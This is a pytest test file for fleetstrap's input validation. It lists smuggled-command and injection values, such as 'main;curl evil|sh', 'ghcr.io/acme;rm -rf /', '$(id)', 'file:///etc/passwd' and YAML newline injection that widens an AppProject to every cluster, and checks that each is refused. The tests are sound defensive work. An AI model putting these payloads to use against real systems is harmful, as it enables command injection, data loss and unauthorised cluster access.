"""Answers are the boundary (issue 23, class 1): every answer has a type, and a value outside it is refused by the
one validated constructor with one line naming the answer and the rule, exit 1, before anything is written.

Injection classes per answer type: newline / YAML structure, quotes, Jinja `{{ }}`/`{% %}`, shell metacharacters,
credentials in URLs, control characters, overlong values. Accepted forms are checked too, so a rule that refused
everything would fail here.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import git
import pytest
import yaml

from fleetstrap.answers import build_answers
from fleetstrap.cli import run
from fleetstrap.errors import AnswersError

BASE = {"owner": "acme", "service": "hello"}
LONG = "a" * 300

# answer -> (refused values, accepted values)
CASES: dict[str, tuple[list[str], list[str]]] = {
    "registry": (
        ["ghcr.io/acme\n  - evil: true", "ghcr.io/acme'", 'ghcr.io/"acme"', "ghcr.io/{{ owner }}",
         "ghcr.io/{% if 1 %}x{% endif %}", "ghcr.io/acme;rm -rf /", "ghcr.io/$(id)", "ghcr.io/acme`id`",
         "https://admin:pw@ghcr.io/acme", "admin:pw@ghcr.io/acme", "ghcr.io/ac\x00me", "ghcr.io/acme\t",
         "ghcr.io/" + "a" * 300, "acme", "ghcr.io/Acme", "ghcr.io:99999/acme", "ghcr.io//acme", "ghcr.io/acme/"],
        ["ghcr.io/acme", "registry.example.com:5000/team/images", "localhost:5000/x", "docker.io/library",
         "ghcr.io", "ghcr.io/a.b_c__d-e"],
    ),
    "ingress_domain": (
        ["example.com\nkind: Secret", "example.com'", "example.com #x", "{{ 7*7 }}.example.com",
         "{%raw%}x{%endraw%}", "exa$mple.com", "ex;ample.com", "-bad.example.com", "bad-.example.com",
         "a..b", "Example.COM", "x." + LONG, "examp\x7fle.com", "ex ample.com", "bücher.example"],
        ["example.com", "apps.acme.io", "localhost", "xn--bcher-kva.example", "a-b.c-d.e"],
    ),
    "acme_email": (
        ["ops@acme.io\n  server: https://evil", "ops'@acme.io", '"ops"@acme.io', "{{ops}}@acme.io",
         "ops$(id)@acme.io", "ops;x@acme.io", "ops@acme", "ops@@acme.io", "@acme.io", "ops@", "ops",
         "o..ps@acme.io", ".ops@acme.io", "ops\r@acme.io", "a" * 65 + "@acme.io", "ops @acme.io"],
        ["ops@acme.io", "first.last+fleet@mail.acme.co.uk", "a_b-c%d@x.io"],
    ),
    "otlp_endpoint": (
        ["tempo:4317\n    tls: {insecure: true}", "tempo:4317'", "{{ x }}:4317", "tempo;id:4317",
         "tempo:0", "tempo:65536", "tempo:-1", "tempo:43a7", "tempo", ":4317", "user:pw@tempo:4317",
         "tempo\x00:4317", "tempo :4317", LONG + ":4317"],
        ["tempo.observability.svc.cluster.local:4317", "10.0.0.7:4317", "[::1]:4317", "collector:1",
         "otlp.example.com:65535"],
    ),
    "branch": (
        ["main\n  - evil", "main'", 'ma"in', "{{ main }}", "{% x %}", "main;id", "$(id)", "`id`", "ma in",
         "main\x1b", "-main", "main/", "/main", "a//b", "a..b", "main.", "a/.hidden", "x.lock", "HEAD",
         "a@{b", "a~1", "a^", "a:b", "a?", "a*", "a[", "a\\b", "b" * 300],
        ["main", "release/v1.2", "feature/foo-bar_baz", "v1.0+build"],
    ),
    "git_url": (
        ["ssh://git@github.com/acme/fleet.git\n  - server: '*'", "https://admin:pw@github.com/acme/fleet.git",
         "https://token@github.com/acme/fleet.git", "ssh://git:pw@github.com/acme/fleet.git",
         "https://github.com/acme/'fleet'.git", "https://github.com/{{ owner }}/fleet.git",
         "https://github.com/acme/fleet.git;id", "https://github.com/acme/fleet`id`.git",
         "ftp://github.com/acme/fleet.git", "file:///etc/passwd", "git@github.com:acme/fleet.git",
         "https://github.com:0/acme/fleet.git", "https://github.com:99999/x", "https:///acme/fleet.git",
         "https://github.com/ac me", "https://github.com/acme\x00", "https://" + "a" * 2100],
        ["ssh://git@github.com/acme/fleet-infra.git", "https://github.com/acme/fleet-infra.git",
         "http://127.0.0.1:8080/git/fleet.git", "https://[::1]:3000/acme/fleet.git"],
    ),
}
CLUSTER_CASES: dict[str, tuple[list[str], list[str]]] = {
    "server": (
        ["https://x.example.com\n      namespace: kube-system\n    - server: '*'", "http://10.0.0.1:6443",
         "https://admin:pw@k8s.example.com", "https://token@k8s.example.com", "https://k8s.example.com:0",
         "https://k8s.example.com:70000", "https://'*'", "https://{{ server }}", "https://k8s.example.com/$(id)",
         "https://k8s example.com", "https://k8s.example.com\t", "*", "https://" + "a" * 2100],
        ["https://k8s.example.com:6443", "https://10.0.0.1:6443", "https://[2001:db8::1]:6443",
         "https://rancher.example.com/k8s/clusters/c-m-abc"],
    ),
    "context": (
        ["kind-dev\n  server: x", "kind-dev'", "{{ ctx }}", "kind;id", "kind$(id)", "kind dev", "kind\x00",
         "c" * 300],
        ["kind-dev", "gke_proj_europe-west1_prod", "admin@prod", "arn:aws:eks:eu-west-1:123456789012:cluster/prod"],
    ),
}
SERVICE_RESERVED = ["build", "deps", "examples", "incremental", "fn", "self", "type", "async", "test", "core",
                    "std", "nul", "con", "kube-proxy"]


def _refused(data: dict[str, object]) -> str:
    with pytest.raises(AnswersError) as info:
        build_answers({**BASE, **data})
    message = str(info.value)
    assert "\n" not in message  # one line
    return message


@pytest.mark.parametrize(("key", "value"), [(k, v) for k, (bad, _) in CASES.items() for v in bad])
def test_refused_values_name_the_answer(key: str, value: str) -> None:
    extra = {"tls_issuer": "letsencrypt-prod"} if key == "acme_email" else {}
    message = _refused({key: value, **extra})
    assert f"answer {key!r}" in message, message


@pytest.mark.parametrize(("key", "value"), [(k, v) for k, (_, good) in CASES.items() for v in good])
def test_accepted_values_reach_the_answers(key: str, value: str) -> None:
    extra = {"tls_issuer": "letsencrypt-prod" if key == "acme_email" else "selfsigned"}
    answers = build_answers({**BASE, key: value, **extra})
    assert getattr(answers, key) == value


@pytest.mark.parametrize(("field", "value"), [(k, v) for k, (bad, _) in CLUSTER_CASES.items() for v in bad])
def test_refused_cluster_fields_name_the_cluster_and_field(field: str, value: str) -> None:
    message = _refused({"environments": ["dev"], "clusters": [{"name": "c1", "environment": "dev", field: value}]})
    assert f"cluster 'c1': {field}" in message, message


@pytest.mark.parametrize(("field", "value"), [(k, v) for k, (_, good) in CLUSTER_CASES.items() for v in good])
def test_accepted_cluster_fields(field: str, value: str) -> None:
    answers = build_answers({**BASE, "environments": ["dev"],
                             "clusters": [{"name": "c1", "environment": "dev", field: value}]})
    assert getattr(answers.clusters[0], field) == value


@pytest.mark.parametrize("name", SERVICE_RESERVED)
def test_reserved_service_names_are_refused_with_the_reason(name: str) -> None:
    message = _refused({"service": name})
    assert "reserved" in message and name in message


@pytest.mark.parametrize(("key", "value"), [("environments", ["kube-system"]), ("teams", ["kube-admins"])])
def test_kube_prefix_is_reserved_for_environments_and_teams(key: str, value: list[str]) -> None:
    assert "reserved for Kubernetes" in _refused({key: value})


def test_acme_email_is_checked_only_when_let_s_encrypt_uses_it() -> None:
    _refused({"tls_issuer": "letsencrypt-staging", "acme_email": "not-an-address"})
    message = _refused({"tls_issuer": "letsencrypt-staging", "ingress_domain": "localhost"})
    assert message.startswith("answer 'acme_email' is needed: its default 'platform@localhost' is refused"), message
    assert build_answers({**BASE, "tls_issuer": "selfsigned", "ingress_domain": "localhost"}).tls_issuer == "selfsigned"


def test_blueprints_keep_working_with_the_acme_default() -> None:
    from fleetstrap.blueprints import resolve_blueprint

    for name in ("starter", "multi-env", "argocd-multi-cluster", "dual-engine", "observability"):
        answers = build_answers(resolve_blueprint(name))
        assert answers.acme_email == f"platform@{answers.ingress_domain}"


# ---------------------------------------------------------------- through the CLI: exit 1, one line, nothing written

def _one_error_line(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.strip() and "hint:" not in ln]
    assert len(lines) == 1 and lines[0].startswith("error:"), err
    assert "Traceback" not in err and ".fleetstrap-" not in err and "generated" not in err
    return lines[0]


@pytest.mark.parametrize(("key", "value"), [
    ("registry", "ghcr.io/acme\n  - evil: true"), ("git_url", "https://admin:pw@github.com/acme/f.git"),
    ("branch", "main;curl evil|sh"), ("otlp_endpoint", "tempo:4317\n    tls: {insecure: true}"),
    ("ingress_domain", "{{ 7*7 }}.example.com"), ("acme_email", "ops\n@acme.io"),
])
def test_init_refuses_before_writing(key: str, value: str, tmp_path: Path,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    dest = tmp_path / "out"
    # --data values are YAML: a JSON string carries newlines and quotes through unchanged.
    import json

    assert run(["init", "-b", "multi-env", "-d", f"{key}={json.dumps(value)}", str(dest)]) == 1
    line = _one_error_line(capsys.readouterr().err)
    assert f"answer {key!r}" in line
    assert not dest.exists() and [p.name for p in tmp_path.iterdir()] == []


@pytest.fixture(scope="module")
def argo_fleet(tmp_path_factory: pytest.TempPathFactory) -> Path:
    dest = tmp_path_factory.mktemp("argo") / "fleet"
    assert run(["-q", "init", "--blueprint", "argocd-multi-cluster", "--no-validate", str(dest)]) == 0
    return dest


def _state(root: Path) -> tuple[str, str]:
    status = subprocess.run(["git", "status", "--porcelain", "--ignored"], cwd=root, capture_output=True,
                            text=True, check=True).stdout
    return git.Repo(root).head.commit.hexsha, status


@pytest.mark.parametrize("args", [
    # The reproduction of issue 23: an AppProject widened to every cluster through --server.
    ["cluster", "c1", "-e", "dev", "--server",
     "https://x.example.com\n      namespace: kube-system\n    - server: '*'"],
    ["cluster", "c1", "-e", "dev", "--server", "https://admin:pw@k8s.example.com"],
    ["cluster", "c1", "-e", "dev", "--server", "https://k8s.example.com:0"],
    ["cluster", "c1", "-e", "dev", "--context", "kind\n  server: '*'"],
    ["cluster", "kube-edge", "-e", "dev"],
    ["service", "build"],
    ["service", "incremental"],
    ["service", "fn"],
])
def test_add_refuses_before_writing(argo_fleet: Path, args: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    before = _state(argo_fleet)
    assert run(["add", *args, "-C", str(argo_fleet)]) == 1
    line = _one_error_line(capsys.readouterr().err)
    assert args[1] in line or "cluster 'c1'" in line
    assert _state(argo_fleet) == before
    projects = [yaml.safe_load(p.read_text()) for p in (argo_fleet / "argocd").rglob("*.yaml")
                if "AppProject" in p.read_text()]
    for project in projects:
        assert all(d.get("server") != "*" for d in project["spec"].get("destinations", []))


# (a NUL cannot be passed to git as an argument; build_answers refuses it in test_refused_values_name_the_answer)
@pytest.mark.parametrize("branch", [b for b in (*CASES["branch"][0], *CASES["branch"][1]) if "\x00" not in b])
def test_every_branch_git_refuses_is_refused(branch: str) -> None:
    """The real `git check-ref-format --branch` as the oracle: fleetstrap takes no branch git refuses."""
    git_ok = subprocess.run(["git", "check-ref-format", "--branch", branch], capture_output=True).returncode == 0
    try:
        build_answers({**BASE, "branch": branch})
        ours = True
    except AnswersError:
        ours = False
    assert git_ok or not ours, branch
    if branch in CASES["branch"][1]:
        assert git_ok and ours, branch


@pytest.mark.parametrize(("key", "value"), [
    ("git_url", "http://admin:s3cr3t@github.com/acme/fleet.git"), ("git_url", "ftp://admin:s3cr3t@github.com/x"),
    ("git_url", "https://admin:s3cr3t@github.com/a b"), ("registry", "admin:s3cr3t@ghcr.io/acme"),
    ("otlp_endpoint", "user:s3cr3t@tempo:4317"), ("server", "http://admin:s3cr3t@k8s.example.com"),
    ("server", "https://admin:s3cr3t@k8s.example.com:0"),
])
def test_a_refused_url_never_shows_its_password(key: str, value: str) -> None:
    data: dict[str, object] = {key: value}
    if key == "server":
        data = {"environments": ["dev"], "clusters": [{"name": "c1", "environment": "dev", "server": value}]}
    message = _refused(data)
    assert "s3cr3t" not in message, message
